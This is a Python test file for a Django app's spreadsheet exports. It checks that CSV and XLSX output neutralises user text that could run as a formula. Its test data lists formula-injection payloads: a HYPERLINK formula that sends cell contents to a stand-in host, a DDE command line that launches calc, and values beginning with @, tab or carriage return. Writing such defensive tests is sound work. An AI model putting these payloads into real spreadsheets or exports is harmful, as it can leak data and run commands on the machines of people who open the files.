"""Every XLSX and CSV the app writes keeps a user's text a text: nothing in it can run as a formula."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from django.test import Client

from povmis.registry.survey_import import error_workbook as workbook
from povmis.spreadsheets import neutralised, safe_text
from povmis.tables import write_table
from povmis.units.models import AdminUnit
from tests.reports.dataset import review_two_years

ATTACKS = ['=HYPERLINK("http://x/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_every_text_that_could_start_a_formula_gets_an_apostrophe_and_the_rest_stay_as_they_are():
    assert [safe_text(text) for text in [*ATTACKS, "Y Nguyễn", "066090000001", ""]] == [
        *("'" + text for text in ATTACKS),
        "Y Nguyễn",
        "066090000001",
        "",
    ]


def test_a_frame_is_neutralised_column_by_column_and_its_numbers_stay_numbers():
    frame = pl.DataFrame(
        {"name": [ATTACKS[0], "Bà Hoa", None], "income": [-5, 1_200_000, 0], "class": ["poor", "-", "poor"]},
        schema={"name": pl.String, "income": pl.Int64, "class": pl.Enum(["poor", "-"])},
    )
    assert neutralised(frame).to_dict(as_series=False) == {
        "name": ["'" + ATTACKS[0], "Bà Hoa", None],
        "income": [-5, 1_200_000, 0],
        "class": ["poor", "'-", "poor"],
    }


def test_written_csv_and_xlsx_tables_hold_the_texts_neutralised_and_the_numbers_as_numbers(tmp_path: Path):
    frame = pl.DataFrame({"head_name": ATTACKS, "income_per_capita": [-1, 2, 3, 4, 5, 6]})
    write_table(frame, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_text().splitlines()[1:3] == [
        '"\'=HYPERLINK(""http://x/""&A1)",-1',
        "'+1+cmd|' /C calc'!A0,2",
    ]
    write_table(frame, tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    assert [cell.data_type for cell in sheet["A"][1:]] == ["s"] * 6
    # XLSX stores a carriage return as the escape _x000D_, which openpyxl gives back as written.
    assert [cell.value for cell in sheet["A"][1:]] == ["'" + text for text in ATTACKS[:5]] + ["'_x000D_=1+1"]
    assert [(cell.value, cell.data_type) for cell in sheet["B"][1:]] == [(n, "n") for n in (-1, 2, 3, 4, 5, 6)]


def test_the_import_error_report_writes_the_uploaded_values_as_safe_text_and_row_numbers_as_numbers():
    issues = [
        {"file": "=evil.csv", "row": 2, "column": "head_name", "household_id": "@H1", "value": ATTACKS[0],
         "severity": "error", "message_vi": "lỗi", "message_en": "an error"},
    ]  # fmt: skip
    book = openpyxl.load_workbook(io.BytesIO(workbook(issues, files=["=evil.csv"], year=2024)))
    sheet = book["issues"]
    row = [cell for cell in sheet[4] if cell.value is not None]
    assert [(cell.value, cell.data_type) for cell in row] == [
        ("'=evil.csv", "s"),
        (2, "n"),
        ("head_name", "s"),
        ("'@H1", "s"),
        ("'" + ATTACKS[0], "s"),
        ("error", "s"),
        ("lỗi", "s"),
        ("an error", "s"),
    ]
    assert sheet["A1"].data_type == "s"
    assert sheet["A1"].value.startswith("Báo cáo lỗi")


@pytest.mark.django_db
def test_the_official_tables_write_a_unit_name_that_looks_like_a_formula_as_text(world):
    reviewed = review_two_years(world)
    AdminUnit.objects.filter(pk=reviewed.c1.pk).update(name='=HYPERLINK("http://x/")')
    client = Client()
    client.force_login(reviewed.personas["province"])
    response = client.get("/reports/2024/tables.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Biểu 01"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    names = [row[1] for row in sheet.iter_rows(min_row=7, values_only=True)]
    assert '\'=HYPERLINK("http://x/")' in names
    counts = [row[2] for row in sheet.iter_rows(min_row=7, values_only=True)]
    assert all(isinstance(count, int) for count in counts)
